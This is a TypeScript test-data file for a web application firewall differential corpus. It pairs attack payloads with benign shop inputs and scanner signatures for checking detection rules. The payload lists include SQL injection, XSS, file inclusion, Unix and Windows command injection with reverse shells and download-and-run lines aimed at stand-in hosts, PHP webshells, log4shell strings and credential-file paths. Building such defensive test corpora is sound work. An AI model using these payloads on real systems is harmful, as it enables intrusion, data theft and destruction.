@@ -1,0 +1,346 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: `${...}` payloads (log4shell, shell expansion) are the point
+/**
+ * The payloads of the WAF differential corpus, as the application would receive them (decoded):
+ * `corpus.ts` encodes each for the place it puts it in. Corpus ids are positions in these lists, so
+ * entries are only ever appended, never reordered or removed (a retired entry is replaced in place by
+ * a new one and that is said in the commit). Hosts and addresses inside payloads are documentation
+ * names (`.example`, 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24): nothing here is ever contacted.
+ */
+
+/** Attack families that go in values (query, form, JSON, multipart, cookie, header). */
+export type ValueFamily =
+  | 'sqli'
+  | 'xss'
+  | 'lfi'
+  | 'rfi'
+  | 'rce-unix'
+  | 'rce-windows'
+  | 'php'
+  | 'java'
+  | 'nodejs'
+  | 'session-fixation';
+
+/** Attack payloads by family, each placed in every value placement. */
+export const ATTACK_VALUES: Readonly<Record<ValueFamily, readonly string[]>> = {
+  sqli: [
+    "' OR '1'='1",
+    "' OR 1=1-- -",
+    "admin'--",
+    '1 UNION SELECT username, password FROM admin_user--',
+    "1' UNION ALL SELECT NULL,NULL,@@version#",
+    '1; DROP TABLE sales_order;--',
+    "' AND SLEEP(5)#",
+    '1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)',
+    "' AND extractvalue(1,concat(0x7e,(SELECT version())))--",
+    "1' AND benchmark(5000000,md5(1))#",
+    "'; WAITFOR DELAY '0:0:5'--",
+    "1' ORDER BY 10--",
+    "'; EXEC xp_cmdshell('dir');--",
+    '1 OR pg_sleep(5)--',
+    "' UNION SELECT load_file('/etc/passwd')--",
+    '1/**/UNION/**/SELECT/**/1,2,group_concat(table_name)/**/FROM/**/information_schema.tables',
+    '" OR ""="',
+    "') OR ('a'='a",
+    "1' AND 1=(SELECT COUNT(*) FROM customer_entity); --",
+    "-1' UNION SELECT 1,2,3 INTO OUTFILE '/var/www/html/x.php'--",
+    ' 1 AND ASCII(SUBSTRING((SELECT password FROM customer_entity LIMIT 1),1,1))>64',
+    "1' HAVING 1=1--",
+  ],
+  xss: [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(document.domain)>',
+    '<svg/onload=alert(1)>',
+    'javascript:alert(document.cookie)',
+    '"><script>alert(String.fromCharCode(88,83,83))</script>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    "<body onload=alert('xss')>",
+    '<a href="javascript:alert(1)">click</a>',
+    '<div style="background-image:url(javascript:alert(1))">',
+    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
+    '<details open ontoggle=alert(1)>',
+    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
+    '<base href="javascript:alert(1)//">',
+    '<x onmouseover=alert(1)>hover</x>',
+    '<input autofocus onfocus=alert(1)>',
+    '<script src=//evil.example/x.js></script>',
+    "<style>@import 'javascript:alert(1)';</style>",
+    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
+    '<video><source onerror="alert(1)">',
+    '<scr<script>ipt>alert(1)</scr</script>ipt>',
+    '<img src="x" onerror="&#x61;lert(1)">',
+    "'-alert(1)-'",
+  ],
+  lfi: [
+    '../../../../etc/passwd',
+    '..%2f..%2f..%2fetc%2fpasswd',
+    '....//....//....//etc/passwd',
+    '/etc/shadow',
+    '..\\..\\..\\windows\\win.ini',
+    '/proc/self/environ',
+    'file:///etc/passwd',
+    '../../app/etc/env.php',
+    '/var/log/nginx/access.log',
+    'c:\\boot.ini',
+    '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
+    '../../../../../../../../etc/hosts\u0000.jpg',
+    '/root/.ssh/id_rsa',
+    '../../../../root/.bash_history',
+  ],
+  rfi: [
+    'http://203.0.113.7/shell.txt?',
+    'https://evil.example/shell.txt?',
+    'http://evil.example/c99.txt??',
+    'ftp://198.51.100.23/backdoor.php',
+    'http://192.0.2.44/r57.txt',
+    '//evil.example/shell.php?',
+    'https://198.51.100.9:8443/payload.txt?x=',
+    'http://evil.example/include.php?cmd=id?',
+    'HTTP://203.0.113.250/inc.txt',
+    'https://evil.example/x',
+  ],
+  'rce-unix': [
+    ';cat /etc/passwd',
+    '| id',
+    '$(whoami)',
+    '`uname -a`',
+    '&& wget http://203.0.113.5/x.sh -O /tmp/x.sh',
+    '; curl -s http://evil.example/x | sh',
+    '|| nc -e /bin/sh 203.0.113.5 4444',
+    '; /bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
+    '; rm -rf /tmp/*',
+    '; echo ZWNobyBoYWNr | base64 -d | sh',
+    '$(cat${IFS}/etc/passwd)',
+    `; python -c 'import os;os.system("id")'`,
+    `;perl -e 'exec "/bin/sh"'`,
+    'a;chmod 777 /var/www',
+    ';ls -la /',
+    '() { :; }; /bin/cat /etc/passwd',
+  ],
+  'rce-windows': [
+    '& dir c:\\',
+    '| type C:\\Windows\\win.ini',
+    '; powershell -enc SQBFAFgA',
+    '& net user hacker P@ss /add',
+    '| whoami /all',
+    'cmd.exe /c ipconfig',
+    '& ping -n 10 127.0.0.1',
+    'powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command Invoke-WebRequest',
+    '& certutil -urlcache -split -f http://evil.example/x.exe',
+    '| reg query HKLM\\Software',
+    "& for /f %i in ('dir /b') do echo %i",
+    "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
+  ],
+  php: [
+    "<?php system($_GET['c']); ?>",
+    '<?= phpinfo() ?>',
+    'allow_url_include=On',
+    "$_SERVER['HTTP_HOST']",
+    'php://input',
+    'php://filter/convert.base64-encode/resource=app/etc/env.php',
+    'phar://./pub/media/x.jpg',
+    'expect://id',
+    'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
+    'a:2:{i:0;s:1:"x";i:1;O:4:"Evil":0:{}}',
+    "system('id');",
+    "eval(base64_decode('ZWNobyAx'));",
+    'passthru("cat /etc/passwd")',
+    "file_put_contents('shell.php', '<?php eval($_POST[1]);')",
+    "$a='sys'.'tem';$a('id');",
+  ],
+  java: [
+    '${jndi:ldap://evil.example:1389/a}',
+    '${jndi:rmi://203.0.113.5/obj}',
+    '${${lower:j}ndi:${lower:l}dap://evil.example/x}',
+    '${jndi:dns://evil.example/x}',
+    'java.lang.Runtime.getRuntime().exec("id")',
+    'new java.lang.ProcessBuilder("sh","-c","id").start()',
+    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
+    'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
+    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
+    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
+    'javax.script.ScriptEngineManager',
+    'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl',
+  ],
+  nodejs: [
+    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
+    "require('child_process').execSync('id')",
+    'eval(String.fromCharCode(97,108,101,114,116))',
+    "new Function('return process')().mainModule.require('fs')",
+    "this.constructor.constructor('return process')()",
+    'module.exports = function(){}',
+    '__js_function:function(){return 1}',
+    "process.mainModule.require('child_process').exec('id')",
+    "res.end(require('fs').readFileSync('/etc/passwd'))",
+    'function() { return global.process }',
+  ],
+  'session-fixation': [
+    '<script>document.cookie="PHPSESSID=fixated1234; domain=.shop.localhost";</script>',
+    '<meta http-equiv="Set-Cookie" content="PHPSESSID=abcdef123456">',
+    "javascript:document.cookie='sid=1; expires=Fri, 01 Jan 2038 00:00:00 GMT'",
+    '<META HTTP-EQUIV=Set-Cookie CONTENT="frontend=0123456789abcdef">',
+    'x";document.cookie="frontend=evil; path=/; domain=shop.localhost";//',
+  ],
+};
+
+/** Session id parameter names: a request that sets one is a fixation attempt (CRS 943110/943120). */
+export const SESSION_PARAM_NAMES: readonly string[] = [
+  'PHPSESSID',
+  'jsessionid',
+  'sessionid',
+  'aspsessionid',
+  'sid',
+];
+
+/** Scanner user agents (CRS 913100; the last ones are scripting clients, flagged from paranoia 2). */
+export const SCANNER_USER_AGENTS: readonly { readonly ua: string; readonly pl1: boolean }[] = [
+  { ua: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)', pl1: true },
+  { ua: 'sqlmap/1.7.2#stable (https://sqlmap.org)', pl1: true },
+  { ua: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', pl1: true },
+  { ua: 'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.4)', pl1: true },
+  { ua: 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', pl1: true },
+  { ua: 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', pl1: true },
+  { ua: 'gobuster/3.6', pl1: true },
+  { ua: 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)', pl1: true },
+  {
+    ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Nuclei - Open-source project',
+    pl1: true,
+  },
+  { ua: 'Fuzz Faster U Fool v2.1.0', pl1: true },
+  { ua: 'Wfuzz/3.1.0', pl1: true },
+  { ua: 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) havij', pl1: true },
+  { ua: 'WhatWeb/0.5.5', pl1: true },
+  { ua: 'commix/v3.8-stable (https://commixproject.com)', pl1: true },
+  { ua: 'Mozilla/5.0 zgrab/0.x', pl1: true },
+  { ua: 'Mozilla/5.0 (compatible; Netsparker)', pl1: true },
+  { ua: 'Arachni/v1.5.1', pl1: true },
+  { ua: 'w3af.org', pl1: true },
+  { ua: 'Mozilla/5.0 (compatible; Qualys WAS)', pl1: true },
+  { ua: 'python-requests/2.31.0', pl1: false },
+  { ua: 'libwww-perl/6.72', pl1: false },
+  { ua: 'Python-urllib/3.11', pl1: false },
+  { ua: 'Mozilla/4.0 (compatible)', pl1: false },
+  { ua: 'Typhoeus - https://github.com/typhoeus/typhoeus', pl1: false },
+];
+
+/** Headers only scanners send (CRS 913110). */
+export const SCANNER_HEADERS: readonly (readonly [string, string])[] = [
+  ['Acunetix-Product', 'WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)'],
+  ['Acunetix-Scanning-agreement', 'Third Party Scanning PROHIBITED'],
+  ['X-Scanner', 'Netsparker'],
+  ['X-RatProxy-Loop', '1'],
+  ['Acunetix-User-agreement', 'http://www.acunetix.com/wvs/disc.htm'],
+];
+
+/** Paths only scanners ask for (CRS 913120). */
+export const SCANNER_PATHS: readonly string[] = [
+  '/nessustest',
+  '/w00tw00t.at.ISC.SANS.DFind:)',
+  '/acunetix-wvs-test-for-some-inexistent-file',
+  '/appscan_fingerprint/mac_address',
+  '/thereisnowaythat-you-canbethere',
+  '/nessus_is_probing_you_',
+  '/rfiinc.txt',
+  '/w3af/remotefileinclude.html',
+];
+
+/** Files an attacker probes for by URL (LFI family, path placement: CRS 930130, 920440, 920500). */
+export const PROBED_PATHS: readonly string[] = [
+  '/.git/config',
+  '/.htaccess',
+  '/.htpasswd',
+  '/.ssh/id_rsa',
+  '/.bash_history',
+  '/app/etc/env.php.bak',
+  '/backup.sql',
+  '/web.config',
+  '/var/log/system.log',
+  '/index.php~',
+  '/.svn/entries',
+  '/wp-config.php',
+  '/app/etc/config.ini',
+  '/database.sql.old',
+];
+
+/** Catalog search terms and other things customers type: quotes, ampersands and brackets included. */
+export const BENIGN_VALUES: readonly string[] = [
+  "O'Neill",
+  '"red dress"',
+  'Tom & Jerry',
+  '<3 pack>',
+  "men's shoes size 10",
+  '50% off',
+  't-shirt (large)',
+  'café crème',
+  '100% cotton',
+  'jeans -ripped',
+  '1/2" drill bit',
+  "Rock 'n' Roll",
+  'AC/DC t-shirt',
+  'C++ programming book',
+  '#1 bestseller',
+  'jane.doe+shop@example.com',
+  '+1 (555) 123-4567',
+  'iPhone 15 Pro Max 256GB',
+  "Levi's 501",
+  "Ben & Jerry's",
+  'size: 8-10',
+  'price < 50',
+  'drop earrings',
+  'union jack flag',
+  'select comfort pillow',
+  'table and chairs',
+  'update your wardrobe',
+  'order by phone',
+  'where to buy',
+  "123 O'Connell St., Apt #4",
+  "Rue de l'Église 5",
+  'P.O. Box 12',
+  'c/o John Smith',
+  'Straße 7, 10115 Berlin',
+  'Widget "Pro" 2000',
+  "Kids' <Deluxe> Set",
+  'Gift card: $25',
+  'Kaffee & Kuchen',
+  "L'Oréal Paris",
+  'Dr. Martens 1460',
+  'Hello! Could you ship to Canada?',
+  "It's a gift -- please remove the price tag.",
+  'Please leave at the door; ring twice.',
+  'Size 38/40 (EU)',
+  'Mom & Pop <3',
+  '5 x 7" frame',
+  'Barbie™ Dreamhouse',
+  '日本茶',
+  'naïve art print',
+  'Ctrl+Alt+Del mug',
+];
+
+/** Product descriptions as the admin's editor posts them: HTML is expected here. */
+export const BENIGN_HTML: readonly string[] = [
+  '<p>Soft <strong>organic cotton</strong> tee.</p><ul><li>Machine washable</li><li>Fair trade</li></ul>',
+  '<h2>Features</h2><p>Water-resistant &amp; breathable.</p>',
+  '<p><img src="{{media url="wysiwyg/size-chart.png"}}" alt="Size chart" width="600"></p>',
+  '<p>See our <a href="https://shop.localhost/size-guide">size guide</a> for details.</p>',
+  '<table><tr><th>Size</th><th>Chest</th></tr><tr><td>M</td><td>96 cm</td></tr></table>',
+  '<div class="product-video"><iframe src="https://www.youtube.com/embed/abc123" frameborder="0"></iframe></div>',
+  '<p style="color: #333; font-weight: bold;">Limited edition</p>',
+  '{{widget type="Magento\\CatalogWidget\\Block\\Product\\ProductsList" products_count="5"}}',
+  '<p>Tom &amp; Jerry &lt;3 pack&gt; &mdash; the classic duo.</p>',
+  '<blockquote>"Best purchase this year" &ndash; a customer</blockquote>',
+  '<ol><li>Unbox</li><li>Charge for 2 hours</li><li>Enjoy!</li></ol>',
+  '<p>Dimensions: 10" x 12" x 3"</p><br/><p>Weight: 1.2 lbs</p>',
+];
+
+/** Real browsers' user agents. */
+export const BROWSER_USER_AGENTS: readonly string[] = [
+  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
+  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
+  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
+  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
+  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36',
+  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51',
+  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
+  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
+  'Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36',
+  'Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1',
+];
